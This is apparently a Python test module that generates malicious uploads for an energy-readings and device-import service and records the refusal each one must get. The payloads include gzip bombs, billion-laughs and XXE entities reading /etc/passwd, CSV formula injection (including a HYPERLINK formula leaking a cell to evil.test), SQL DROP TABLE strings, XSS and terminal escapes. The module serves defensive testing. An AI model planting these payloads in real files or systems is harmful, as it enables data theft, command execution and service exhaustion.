"""The hostile-input corpus: bad files for the readings upload and for the device/meter imports.

Every file is generated here at test time (nothing big is committed): a gzip bomb is compressed
from a run of newlines or zeros fed to zlib a chunk at a time, so the inflated data never exists
in memory. Each case says what the product must answer: the parser's error code (readings) or the
row and column of the error (imports), so a refusal for the wrong reason does not count.

Every case is refused on every path it runs on.
"""

from __future__ import annotations

import csv
import functools
import gzip
import io
import random
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

MiB = 1 << 20
HEADER = b"datetime,value_kwh\n"
TZ = "America/New_York"
START = datetime(2024, 1, 1, tzinfo=UTC)
FORMULA = "=cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
ANY_ROW = -1  # the error must name a line of the file, whichever
# Readings paths (test_hostile_uploads.py) and import paths (test_hostile_imports.py).
READINGS_PATHS = ("parser", "api_device", "api_meter_dry_run", "command", "ui_device", "ui_uploads")
IMPORT_PATHS = ("run_import", "page", "command")


# --- building blocks --------------------------------------------------------------------------
@functools.cache
def hourly_rows(n: int, start_hour: int = 0, value: str = "1.5") -> bytes:
    """`n` valid hourly rows in UTC (the k-th data row of a file is its line k + 1)."""
    lines = []
    for hour in range(start_hour, start_hour + n):
        moment = START + timedelta(hours=hour)
        lines.append(f"{moment:%Y-%m-%dT%H:%M:%S}Z,{value}\n")
    return "".join(lines).encode()


def row(value: str, hour: int = 0, time: str | None = None) -> bytes:
    moment = time if time is not None else f"{START + timedelta(hours=hour):%Y-%m-%dT%H:%M:%S}Z"
    return f"{moment},{value}\n".encode()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def streamed_gzip(
    head: bytes, unit: bytes, total: int, *, level: int = 9, members: int = 1
) -> bytes:
    """gzip of `head` then `unit` repeated up to `total` bytes, compressed a chunk at a time.

    The inflated data is never built: only `unit` and the compressed output exist in memory.
    """
    per_member = total // members
    out = []
    for member in range(members):
        compressor = zlib.compressobj(level, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        if member == 0:
            out.append(compressor.compress(head))
        written = 0
        while written < per_member:
            out.append(compressor.compress(unit))
            written += len(unit)
        out.append(compressor.flush())
    return b"".join(out)


ZERO_LINE = b"0" * 4000 + b"\n"  # under the line limit: judged as rows until the ratio trips


@functools.cache
def gzip_bomb_zero_lines() -> bytes:
    """~110 KB that inflates ~1000-fold to 110 MB of lines of zeros (over the 100 MB limit)."""
    return streamed_gzip(HEADER, ZERO_LINE * (MiB // len(ZERO_LINE)), 110 * MiB)


@functools.cache
def gzip_bomb_nul_bytes() -> bytes:
    """~110 KB that inflates to 110 MB of NUL bytes."""
    return streamed_gzip(b"", bytes(MiB), 110 * MiB)


@functools.cache
def gzip_bomb_rows() -> bytes:
    """One valid row repeated to 110 MB: every line is plausible data, only the ratio tells."""
    unit = row("1.5") * (MiB // len(row("1.5")))
    return streamed_gzip(HEADER, unit, 110 * MiB)


@functools.cache
def gzip_bomb_members() -> bytes:
    """Fifty concatenated gzip members of zero lines: the ratio is judged over all of them."""
    return streamed_gzip(HEADER, ZERO_LINE * (MiB // len(ZERO_LINE)), 110 * MiB, members=50)


@functools.cache
def gzip_low_ratio_over_limit() -> bytes:
    """~3.7 MB that inflates 28-fold to 101 MB of whitespace lines: under the ratio bound, over
    the size bound, so only the decompressed-size limit can refuse it."""
    rnd = random.Random(7)
    table = bytes((32, 9)[i % 2] for i in range(256))  # random bytes -> spaces and tabs
    n_lines = (101 * MiB) // 1000 + 1
    noise = rnd.randbytes(99 * n_lines).translate(table)
    compressor = zlib.compressobj(1, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    out = [compressor.compress(HEADER)]
    pad = b" " * 900
    for start in range(0, n_lines, 1000):
        block = b"".join(
            pad + noise[99 * i : 99 * i + 99] + b"\n"
            for i in range(start, min(start + 1000, n_lines))
        )
        out.append(compressor.compress(block))
    out.append(compressor.flush())
    return b"".join(out)


def gzip_declared_5m_rows_truncated() -> bytes:
    """A gzip member whose comment declares 5,000,000 rows, cut off after ~20,000 of them."""
    body = HEADER + hourly_rows(20_000)
    raw = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    deflated = raw.compress(body) + raw.flush()
    flags = 0x10  # FCOMMENT
    header = b"\x1f\x8b\x08" + bytes([flags]) + struct.pack("<I", 0) + b"\x00\xff"
    member = header + b"rows=5000000\x00" + deflated
    return member[: len(member) // 2]


def gzip_bad_crc() -> bytes:
    data = bytearray(gz(HEADER + hourly_rows(24)))
    data[-8] ^= 0xFF  # CRC32 of the trailer
    return bytes(data)


def gzip_many_empty_members() -> bytes:
    empty = gz(b"")
    return gz(HEADER) + empty * 10_000


def xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    return buffer.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(20) + b"data.csv"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01"


# --- instruments -----------------------------------------------------------------------------
class EndlessBody(io.RawIOBase):
    """A stream of `size` bytes made up as it is read: `head`, then `filler` lines, then `tail`.

    Reading past `read_limit` raises ReadTooFar: the reader did not stop where it should have.
    """

    def __init__(
        self,
        head: bytes,
        size: int,
        tail: bytes = b"",
        *,
        filler: bytes = b" " * 1023 + b"\n",
        read_limit: int,
    ) -> None:
        self.head, self.size, self.tail = head, size, tail
        self.block = filler * (MiB // len(filler))
        self.read_limit = read_limit
        self.position = 0

    def readable(self) -> bool:
        return True

    def read(self, size: int | None = -1) -> bytes:
        if size is None or size < 0:
            size = MiB
        out = bytearray()
        body_end = self.size - len(self.tail)
        while len(out) < size and self.position < self.size:
            want = size - len(out)
            if self.position < len(self.head):
                piece = self.head[self.position : self.position + want]
            elif self.position >= body_end:
                start = self.position - body_end
                piece = self.tail[start : start + want]
            else:
                piece = self.block[: min(want, body_end - self.position)]
            out += piece
            self.position += len(piece)
        if self.position > self.read_limit:
            raise ReadTooFar(f"read {self.position:,} bytes of a {self.size:,}-byte body")
        return bytes(out)

    def readinto(self, buffer: Any) -> int:
        data = self.read(len(buffer))
        buffer[: len(data)] = data
        return len(data)


class ReadTooFar(Exception):
    """The server went on reading a body it should have refused."""


class PeakMemory:
    """tracemalloc's peak over a block (Python's allocations: where a parse would blow up).

    Off (`enabled=False`) it measures nothing and costs nothing: tracemalloc slows a parse of
    millions of rows tenfold, so only the big cases are watched.
    """

    def __init__(self, *, enabled: bool = True) -> None:
        self.enabled = enabled
        self.peak = 0

    def __enter__(self) -> PeakMemory:
        if self.enabled:
            tracemalloc.start()
        return self

    def __exit__(self, *exc: object) -> None:
        if self.enabled:
            _, self.peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()


# --- the readings corpus ----------------------------------------------------------------------
@dataclass(frozen=True)
class ReadingsCase:
    """A file the readings upload must refuse.

    `codes`: the parser error codes any of which is the right refusal; `row`: the line the error
    names (None: the file as a whole, so the message must name the file; ANY_ROW: some line).
    """

    name: str
    build: Callable[[], bytes]
    codes: frozenset[str]
    row: int | None = None
    compressed: bool = False
    big: bool = False  # memory measured around the parse
    not_on: frozenset[str] = frozenset()  # paths the case means nothing on, or too slow for

    @property
    def filename(self) -> str:
        return f"SP-00012-{self.name}.csv" + (".gz" if self.compressed else "")


# Green Button feeds gone wrong (tests/readings/greenbutton_samples.py writes the good ones).
_LAUGHS = [' <!ENTITY lol0 "lol">'] + [
    f' <!ENTITY lol{k} "{f"&lol{k - 1};" * 10}">' for k in range(1, 10)
]
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE feed [\n'
    + "\n".join(_LAUGHS)
    + ']>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title></feed>\n'
).encode()
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<feed xmlns="http://www.w3.org/2005/Atom"><title>&xxe;</title></feed>\n'
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;]>\n'
    b'<feed xmlns="http://www.w3.org/2005/Atom"/>\n'
)
WRONG_NAMESPACE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://example.com/not-atom" '
    b'xmlns:espi="http://naesb.org/espi"><entry/></feed>\n'
)


@functools.cache
def green_button(*, reading_types: bool = True, overlap: bool = False, gas: bool = False) -> bytes:
    from tests.readings.greenbutton_samples import MARCH_9_LA, feed

    options: dict[str, Any] = {"channels": (1,), "interval_s": 3600}
    if gas:
        options.update(uom=169, commodity=7, service_kind=1)
    text = "".join(feed(MARCH_9_LA, 2, **options))
    if not reading_types:
        start = text.index("  <entry>\n    <id>urn:uuid:3c4d")
        end = text.index("</entry>\n", start) + len("</entry>\n")
        text = text[:start] + text[end:]
    if overlap:
        # The second day's block starts an hour before the first day's ends.
        text = text.replace(
            f"<start>{MARCH_9_LA + 86_400}</start>", f"<start>{MARCH_9_LA + 82_800}</start>"
        )
    return text.encode()


def _c(name: str, build: Callable[[], bytes], codes: str, row: int | None = None, **kw):
    return ReadingsCase(name, build, frozenset(codes.split()), row, **kw)


READINGS_CASES: tuple[ReadingsCase, ...] = (
    # -- empty and near-empty
    _c("empty", lambda: b"", "empty_file"),
    _c("blank_lines_only", lambda: b"\n \n\t\n\r\n", "empty_file"),
    _c("header_only", lambda: HEADER, "header_only", 1),
    _c("header_only_crlf", lambda: b"datetime,value_kwh\r\n\r\n\r\n", "header_only", 1),
    _c("only_delimiters", lambda: HEADER + b",,,,\n,\n", "header_only", 1),
    # -- encodings and binary files
    _c("nul_in_header", lambda: b"datetime,val\x00ue_kwh\n" + hourly_rows(3), "binary_file"),
    _c(
        "nul_after_first_mib",
        lambda: HEADER + hourly_rows(50_000) + row("1\x00", 50_000),
        "binary_file",
        50_002,
    ),
    _c("utf16_le_bom", lambda: (HEADER + hourly_rows(3)).decode().encode("utf-16"), "not_utf8"),
    _c(
        "utf16_be_bom",
        lambda: b"\xfe\xff" + (HEADER + hourly_rows(3)).decode().encode("utf-16-be"),
        "not_utf8",
    ),
    _c(
        "utf16_le_no_bom",
        lambda: (HEADER + hourly_rows(3)).decode().encode("utf-16-le"),
        "binary_file",
    ),
    _c("utf32_bom", lambda: (HEADER + hourly_rows(3)).decode().encode("utf-32"), "not_utf8"),
    _c("latin1_header", lambda: "dätetime,value_kwh\n".encode("latin-1"), "not_utf8", 1),
    _c(
        "latin1_row",
        lambda: HEADER + hourly_rows(3) + "2024-01-01T03:00:00Z,1.5 é\n".encode("latin-1"),
        "not_utf8",
        5,
    ),
    _c("cp1252_smart_quotes", lambda: b"\x93datetime\x94,value_kwh\n", "not_utf8", 1),
    _c("bom_then_garbage", lambda: b"\xef\xbb\xbf" + bytes(range(128, 256)), "not_utf8"),
    _c(
        "bom_then_binary",
        lambda: b"\xef\xbb\xbf" + random.Random(1).randbytes(4096),
        "binary_file not_utf8",
    ),
    _c("png", lambda: PNG, "binary_file"),
    _c("zip", lambda: ZIP, "binary_file"),
    _c("xlsx", xlsx, "binary_file"),
    _c("xls", lambda: XLS, "binary_file"),
    _c("pdf", lambda: PDF, "binary_file"),
    _c("exe", lambda: EXE, "binary_file"),
    _c("jpeg", lambda: JPEG, "not_utf8 binary_file"),
    # -- shape: long lines, many columns, line ends, quotes
    _c(
        "one_mib_single_line",
        lambda: HEADER + b"2024-01-01T00:00:00Z," + b"1" * MiB + b"\n",
        "line_too_long",
        2,
        big=True,
    ),
    _c("one_mib_header", lambda: b"datetime,value_kwh" + b",x" * (MiB // 2), "line_too_long", 1),
    _c(
        "ten_mib_without_newline",
        lambda: b"datetime,value_kwh," + b"a" * (10 * MiB),
        "line_too_long",
        1,
        big=True,
    ),
    _c(
        "hundred_k_columns_header",
        lambda: b"datetime,value_kwh," + b",".join(b"c%d" % i for i in range(100_000)) + b"\n",
        "line_too_long",
        1,
    ),
    _c(
        "hundred_k_columns_row",
        lambda: HEADER + b"2024-01-01T00:00:00Z,1" + b",1" * 100_000 + b"\n",
        "line_too_long",
        2,
    ),
    _c(
        "cr_only_line_ends",
        lambda: (HEADER + hourly_rows(3)).replace(b"\n", b"\r"),
        "missing_columns",
        1,
    ),
    _c(
        "cr_only_line_ends_long",
        lambda: (HEADER + hourly_rows(500)).replace(b"\n", b"\r"),
        "line_too_long",
        1,
    ),
    _c(
        "unbalanced_quote_first_row",
        lambda: HEADER + b'"' + hourly_rows(3),
        "column_count bad_value bad_time",
        ANY_ROW,
    ),
    _c(
        "unbalanced_quote_in_value",
        lambda: HEADER + hourly_rows(3) + b'2024-01-01T03:00:00Z,"1.5\n' + hourly_rows(2, 4),
        "bad_value column_count",
        ANY_ROW,
    ),
    _c("only_quotes", lambda: HEADER + b'""""""\n', "column_count", 2),
    _c(
        "tab_delimited",
        lambda: b"datetime\tvalue_kwh\n" + b"2024-01-01T00:00:00Z\t1\n",
        "missing_columns",
        1,
    ),
    _c("data_without_header", lambda: hourly_rows(5), "missing_columns", 1),
    _c(
        "semicolon_header_comma_rows",
        lambda: b"datetime;value_kwh\n" + hourly_rows(3),
        "column_count",
        2,
    ),
    _c("decimal_comma_in_comma_file", lambda: HEADER + row("1,5"), "column_count", 2),
    _c(
        "truncated_mid_row",
        lambda: HEADER + hourly_rows(5) + b"2024-01-01T05:0",
        "column_count bad_time",
        7,
    ),
    _c(
        "duplicate_value_columns",
        lambda: b"datetime,value_kwh,value_kwh\n" + hourly_rows(2),
        "ambiguous_columns",
        1,
    ),
    _c(
        "duplicate_time_columns",
        lambda: b"datetime,start_datetime,value_kwh\n2024-01-01T00:00:00Z,x,1\n",
        "ambiguous_columns",
        1,
    ),
    _c(
        "duplicate_customid_columns",
        lambda: b"customId,customId,datetime,value_kwh\n",
        "ambiguous_columns",
        1,
    ),
    _c(
        "control_chars_in_header",
        lambda: b"date\x07time,value\x1b_kwh\n" + hourly_rows(2),
        "missing_columns",
        1,
    ),
    _c(
        "html_header",
        lambda: f"<html>{SCRIPT}</html>\n".encode() + hourly_rows(2),
        "missing_columns",
        1,
    ),
    _c(
        "five_million_blank_lines",
        lambda: HEADER + b"\n" * 5_000_001,
        "too_many_rows",
        # ~3 s a parse (5 M lines walked in Python): two paths are enough; its memory is
        # measured at a smaller row limit in test_hostile_uploads.py.
        not_on=frozenset({"api_meter_dry_run", "command", "ui_device", "ui_uploads"}),
    ),
    # -- formula injection (OWASP CSV injection) in every column a reading file has
    _c("formula_cmd_in_value", lambda: HEADER + row(FORMULA), "bad_value", 2),
    _c("formula_plus_in_value", lambda: HEADER + row("+cmd|' /C calc'!A0"), "bad_value", 2),
    _c("formula_minus_in_value", lambda: HEADER + row("-2+3+cmd|' /C calc'!A0"), "bad_value", 2),
    _c("formula_at_in_value", lambda: HEADER + row("@SUM(1+1)*cmd|' /C calc'!A0"), "bad_value", 2),
    _c(
        "formula_hyperlink_in_value",
        lambda: HEADER + b'2024-01-01T00:00:00Z,"=HYPERLINK(""http://evil.test/?""&A1,""x"")"\n',
        "bad_value",
        2,
    ),
    _c("formula_tab_prefixed_value", lambda: HEADER + row("\t=1+1"), "bad_value", 2),
    _c("formula_in_time", lambda: HEADER + row("1.5", time=FORMULA), "bad_time", 2),
    _c(
        "formula_customid_on_a_later_row",
        lambda: (
            b"customId,datetime,value_kwh\nSP-00012,2024-01-01T00:00:00Z,1\n"
            + f"{FORMULA},2024-01-01T01:00:00Z,1\n".encode()
        ),
        "custom_id_mismatch",
        3,
    ),
    _c(
        "formula_customid_on_every_row",
        lambda: (
            b"customId,datetime,value_kwh\n"
            + b"".join(
                f"{FORMULA},{START + timedelta(hours=h):%Y-%m-%dT%H:%M:%SZ},1\n".encode()
                for h in range(3)
            )
        ),
        "custom_id_mismatch",
        2,
        # The parser alone does not know which record the file is for.
        not_on=frozenset({"parser"}),
    ),
    # -- numbers
    _c("nan_value", lambda: HEADER + row("NaN"), "non_finite_value", 2),
    _c("inf_value", lambda: HEADER + row("-Infinity"), "non_finite_value", 2),
    _c("overflow_1e400", lambda: HEADER + row("1e400"), "non_finite_value", 2),
    _c("huge_but_finite_1e308", lambda: HEADER + row("1e308"), "value_out_of_range", 2),
    _c("underscore_number", lambda: HEADER + row("1_000"), "bad_value", 2),
    _c("hex_float", lambda: HEADER + row("0x1p3"), "bad_value", 2),
    _c("empty_value", lambda: HEADER + row(""), "empty_value", 2),
    # -- SQL-ish, HTML and control characters in cells
    _c("sql_in_value", lambda: HEADER + row("1; DROP TABLE devices_reading;--"), "bad_value", 2),
    _c(
        "sql_in_time",
        lambda: HEADER + row("1", time="2024-01-01'; DELETE FROM devices_device;--"),
        "bad_time",
        2,
    ),
    _c("script_in_value", lambda: HEADER + row(SCRIPT), "bad_value", 2),
    _c(
        "img_onerror_in_time",
        lambda: HEADER + row("1", time="<img src=x onerror=alert(1)>"),
        "bad_time",
        2,
    ),
    _c("ansi_escape_in_value", lambda: HEADER + row("\x1b[31m1"), "bad_value", 2),
    _c("bidi_override_in_value", lambda: HEADER + row("\u202e1.5"), "bad_value", 2),
    _c("zero_width_space_in_value", lambda: HEADER + row("1.5\u200b"), "bad_value", 2),
    _c(
        "bom_inside_a_row",
        lambda: HEADER + "\ufeff2024-01-01T00:00:00Z,1\n".encode(),
        "bad_time",
        2,
    ),
    # -- times
    _c("far_past", lambda: HEADER + row("1", time="1000-01-01T00:00:00Z"), "time_out_of_range", 2),
    _c(
        "far_future", lambda: HEADER + row("1", time="9999-12-31T23:00:00Z"), "time_out_of_range", 2
    ),
    _c("year_zero", lambda: HEADER + row("1", time="0000-01-01T00:00:00Z"), "bad_time", 2),
    _c("five_digit_year", lambda: HEADER + row("1", time="99999-01-01T00:00:00Z"), "bad_time", 2),
    _c(
        "offset_25_hours",
        lambda: HEADER + row("1", time="2024-01-01T00:00:00+25:00"),
        "bad_time",
        2,
    ),
    _c("date_without_time", lambda: HEADER + row("1", time="2024-01-01"), "bad_time", 2),
    _c("epoch_seconds", lambda: HEADER + row("1", time="1704067200"), "bad_time", 2),
    _c(
        "fractional_seconds",
        lambda: HEADER + row("1", time="2024-01-01T00:00:00.5Z"),
        "fractional_seconds",
        2,
    ),
    _c(
        "nonexistent_local_time",
        lambda: HEADER + row("1", time="2024-03-10T02:00:00"),
        "nonexistent_local_time",
        2,
    ),
    _c(
        "conflicting_duplicate_hour",
        lambda: HEADER + row("1.5") + row("2.5"),
        "conflicting_duplicate",
        3,
    ),
    # -- gzip: bombs, damage, nesting
    _c("gzip_bomb_zero_lines", gzip_bomb_zero_lines, "gzip_bomb", compressed=True, big=True),
    _c(
        "gzip_bomb_nul_bytes",
        gzip_bomb_nul_bytes,
        "gzip_bomb too_large binary_file",
        compressed=True,
        big=True,
    ),
    _c(
        "gzip_bomb_valid_rows",
        gzip_bomb_rows,
        "gzip_bomb too_large",
        compressed=True,
        # ~1 s a parse (440,000 rows before the ratio trips): three paths are enough.
        not_on=frozenset({"api_meter_dry_run", "ui_device", "ui_uploads"}),
    ),
    _c(
        "gzip_bomb_fifty_members",
        gzip_bomb_members,
        "gzip_bomb too_large",
        compressed=True,
        big=True,
    ),
    _c(
        "gzip_low_ratio_over_100_mib",
        gzip_low_ratio_over_limit,
        "too_large",
        compressed=True,
        big=True,
        # ~1 s a parse (100 MB inflated): the API, and the page's background check.
        not_on=frozenset({"api_meter_dry_run", "command", "ui_uploads"}),
    ),
    _c(
        "gzip_declared_5m_rows_truncated",
        gzip_declared_5m_rows_truncated,
        "bad_gzip",
        compressed=True,
    ),
    _c("gzip_truncated", lambda: gz(HEADER + hourly_rows(500))[:-300], "bad_gzip", compressed=True),
    _c("gzip_magic_only", lambda: b"\x1f\x8b", "bad_gzip", compressed=True),
    _c("gzip_bad_crc", gzip_bad_crc, "bad_gzip", compressed=True),
    _c(
        "gzip_trailing_garbage",
        lambda: gz(HEADER + hourly_rows(24)) + b"garbage after the member",
        "bad_gzip",
        compressed=True,
    ),
    _c(
        "gzip_bad_deflate",
        lambda: b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + b"\xff" * 64,
        "bad_gzip",
        compressed=True,
    ),
    _c("gzip_nested", lambda: gz(gz(HEADER + hourly_rows(24))), "binary_file", compressed=True),
    _c(
        "gzip_latin1",
        lambda: gz("dätetime,value_kwh\n".encode("latin-1")),
        "not_utf8",
        1,
        compressed=True,
    ),
    _c("gzip_of_xlsx", lambda: gz(xlsx()), "binary_file", compressed=True),
    _c(
        "gzip_ten_thousand_empty_members",
        gzip_many_empty_members,
        "header_only",
        1,
        compressed=True,
    ),
    # -- Green Button XML, told by its content whatever the name
    _c("xml_billion_laughs", lambda: BILLION_LAUGHS, "xml_dtd", 2),
    _c("xml_external_entity", lambda: EXTERNAL_ENTITY, "xml_dtd", 2),
    _c("xml_parameter_entity", lambda: PARAMETER_ENTITY, "xml_dtd", 2),
    _c("xml_truncated", lambda: green_button()[: len(green_button()) // 2], "bad_xml", ANY_ROW),
    _c("xml_wrong_namespace", lambda: WRONG_NAMESPACE, "not_green_button", 2),
    _c(
        "xml_no_reading_type",
        lambda: green_button(reading_types=False),
        "green_button_reading_type",
        ANY_ROW,
    ),
    _c("xml_overlapping_blocks", lambda: green_button(overlap=True), "overlapping_blocks", ANY_ROW),
    _c("xml_gas_only", lambda: green_button(gas=True), "unsupported_unit"),
)


# --- the import corpus ------------------------------------------------------------------------
DEVICE_HEADER = "name,customId,kind,homeName,zipcode,customerName,nameplateCapacityKw\n"
DEVICE_ROW = "Roof array,SP-1,solar,Home A,52327,Ann Lee,5\n"
METER_HEADER = "meterNumber,meterPointId,locationType,homeName,zipcode\n"
METER_ROW = "M-1,MP-1,residential,Home A,52327\n"  # Home A at 52327 exists in the tests


@dataclass(frozen=True)
class ImportCase:
    """A file the device (or meter) import must refuse: `row`/`column` of the expected error
    (row None: the file as a whole, `column` then words the message must contain, one of
    several when separated by "|")."""

    name: str
    importer: str  # "device" or "meter"
    build: Callable[[], bytes]
    row: int | None
    column: str | None
    big: bool = False


def _d(name: str, build: Callable[[], bytes], row: int | None, column: str | None, **kw):
    return ImportCase(name, "device", build, row, column, **kw)


def _m(name: str, build: Callable[[], bytes], row: int | None, column: str | None, **kw):
    return ImportCase(name, "meter", build, row, column, **kw)


def device_file(**cells: str) -> bytes:
    """The device header and one row, with some cells replaced (or extra columns added)."""
    names = DEVICE_HEADER.strip().split(",")
    values = dict(zip(names, DEVICE_ROW.strip().split(","), strict=True))
    values.update(cells)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(values.keys())
    writer.writerow(values.values())
    return out.getvalue().encode()


def meter_file(**cells: str) -> bytes:
    names = METER_HEADER.strip().split(",")
    values = dict(zip(names, METER_ROW.strip().split(","), strict=True))
    values.update(cells)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(values.keys())
    writer.writerow(values.values())
    return out.getvalue().encode()


IMPORT_CASES: tuple[ImportCase, ...] = (
    # -- the file as a whole
    _d("empty", lambda: b"", None, "empty"),
    _d("blank_lines_only", lambda: b"\n\n \n", None, "empty"),
    _d("header_only", lambda: DEVICE_HEADER.encode(), None, "no rows"),
    _d("nul_bytes", lambda: DEVICE_HEADER.encode() + b"Roof\x00,SP-1\n", None, "binary"),
    _d("utf16", lambda: (DEVICE_HEADER + DEVICE_ROW).encode("utf-16"), None, "UTF-16"),
    _d(
        "latin1",
        lambda: (DEVICE_HEADER + "Café,SP-1,solar,Home A,52327,Ann,5\n").encode("latin-1"),
        None,
        "UTF-8",
    ),
    _d("bom_then_garbage", lambda: b"\xef\xbb\xbf" + bytes(range(128, 256)), None, "UTF-8"),
    _d("png", lambda: PNG, None, "binary"),
    _d("zip", lambda: ZIP, None, "binary"),
    _d("xlsx", xlsx, None, "binary"),
    _d("pdf", lambda: PDF, None, "UTF-8"),
    _d("gzip_bomb", gzip_bomb_zero_lines, None, "binary", big=True),
    _d("one_mib_single_line", lambda: DEVICE_HEADER.encode() + b"x" * MiB + b"\n", None, "Line 2"),
    _d(
        "hundred_k_columns_header",
        lambda: (
            DEVICE_HEADER.strip() + "".join(f",c{i}" for i in range(100_000)) + "\n" + DEVICE_ROW
        ).encode(),
        None,
        "Unknown column|line 1",  # either is a clear refusal (a 590 KB line)
    ),
    _d(
        "twenty_k_columns_header",
        lambda: (
            DEVICE_HEADER.strip() + "".join(f",c{i}" for i in range(20_000)) + "\n" + DEVICE_ROW
        ).encode(),
        None,
        "Unknown column",
    ),
    _d("unbalanced_quotes", lambda: (DEVICE_HEADER + '"' + DEVICE_ROW).encode(), None, "quotes"),
    _d("duplicate_headers", lambda: b"name,name,customId,kind\nA,B,SP-1,solar\n", None, "twice"),
    _d("unknown_and_missing_columns", lambda: b"nom,customId\nA,SP-1\n", None, "Unknown column"),
    _d(
        "header_is_html",
        lambda: f"{SCRIPT},customId,kind\nA,SP-1,solar\n".encode(),
        None,
        "Unknown column",
    ),
    _d(
        "fifty_thousand_and_one_rows",
        lambda: DEVICE_HEADER.encode() + b"R,SP-1,solar,H,52327,A,5\n" * 50_001,
        None,
        "rows",
        big=True,
    ),
    _d(
        "over_ten_mib",
        lambda: (
            DEVICE_HEADER.encode() + (b"R,SP-1,solar,H,52327,A,5" + b" " * 999 + b"\n") * 10_300
        ),
        None,
        "MB",
        big=True,
    ),
    # -- rows and columns
    _d(
        "hundred_k_columns_row",
        lambda: (DEVICE_HEADER + DEVICE_ROW.strip() + ",1" * 100_000 + "\n").encode(),
        2,
        None,
    ),
    _d(
        "cr_only_line_ends",
        lambda: (
            (DEVICE_HEADER + DEVICE_ROW + "Garage,SP-2,nope,Home A,52327,Ann Lee,5\n")
            .replace("\n", "\r")
            .encode()
        ),
        3,
        "kind",
    ),
    _d("formula_cmd_in_custom_id", lambda: device_file(customId=FORMULA), 2, "customId"),
    _d("formula_plus_in_custom_id", lambda: device_file(customId="+SP1"), 2, "customId"),
    _d("formula_minus_in_custom_id", lambda: device_file(customId="-SP1"), 2, "customId"),
    _d("formula_at_in_custom_id", lambda: device_file(customId="@SP1"), 2, "customId"),
    _d(
        "sql_in_custom_id",
        lambda: device_file(customId="x'; DROP TABLE devices_device;--"),
        2,
        "customId",
    ),
    _d("control_char_in_custom_id", lambda: device_file(customId="SP\x1b[2J1"), 2, "customId"),
    _d("script_in_kind", lambda: device_file(kind=SCRIPT), 2, "kind"),
    _d("formula_in_status", lambda: device_file(status="=1+1"), 2, "status"),
    _d("formula_in_zipcode", lambda: device_file(zipcode="=1+1"), 2, "zipcode"),
    _d("nan_nameplate", lambda: device_file(nameplateCapacityKw="NaN"), 2, "nameplateCapacityKw"),
    _d("inf_nameplate", lambda: device_file(nameplateCapacityKw="-inf"), 2, "nameplateCapacityKw"),
    _d(
        "overflow_nameplate",
        lambda: device_file(nameplateCapacityKw="1e400"),
        2,
        "nameplateCapacityKw",
    ),
    _d(
        "year_zero_commenced",
        lambda: device_file(commencedOperationDate="0000-01-01"),
        2,
        "commencedOperationDate",
    ),
    _d(
        "impossible_commenced",
        lambda: device_file(commencedOperationDate="2024-02-30"),
        2,
        "commencedOperationDate",
    ),
    _d(
        "far_past_commenced",
        lambda: device_file(commencedOperationDate="0001-01-01"),
        2,
        "commencedOperationDate",
    ),
    _d(
        "far_future_commenced",
        lambda: device_file(commencedOperationDate="9999-12-31"),
        2,
        "commencedOperationDate",
    ),
    _d(
        "nan_in_location_json",
        lambda: device_file(location='{"latitude": NaN, "longitude": -91.5}'),
        2,
        "location",
    ),
    _d(
        "deeply_nested_location_json",
        lambda: device_file(location='{"a": ' + "[" * 5_000 + "]" * 5_000 + "}"),
        2,
        "location",
    ),
    _d(
        "nan_heating_element",
        lambda: device_file(
            kind="hot_water_tank",
            nameplateCapacityKw="",
            brand="Rheem",
            model="X",
            capacityL="200",
            heatingElementsW="NaN",
        ),
        2,
        "heatingElementsW",
    ),
    _d(
        "formula_cmd_in_name",
        lambda: device_file(name=FORMULA),
        2,
        "name",
    ),
    _d(
        "formula_plus_in_home_name",
        lambda: device_file(homeName="+Home"),
        2,
        "homeName",
    ),
    _d(
        "formula_minus_in_customer_name",
        lambda: device_file(customerName="-2+3+cmd|' /C calc'!A0"),
        2,
        "customerName",
    ),
    _d(
        "formula_at_in_owner_name",
        lambda: device_file(ownerName="@SUM(1+1)"),
        2,
        "ownerName",
    ),
    _d(
        "formula_in_customer_email",
        lambda: device_file(customerEmail="=1+1@evil.test"),
        2,
        "customerEmail",
    ),
    _d(
        "control_chars_in_name",
        lambda: device_file(name="Roof\x1b]0;pwned\x07"),
        2,
        "name",
    ),
    # -- the meter import
    _m("meter_empty", lambda: b"", None, "empty"),
    _m("meter_binary", lambda: PNG, None, "binary"),
    _m("meter_utf16", lambda: (METER_HEADER + METER_ROW).encode("utf-16"), None, "UTF-16"),
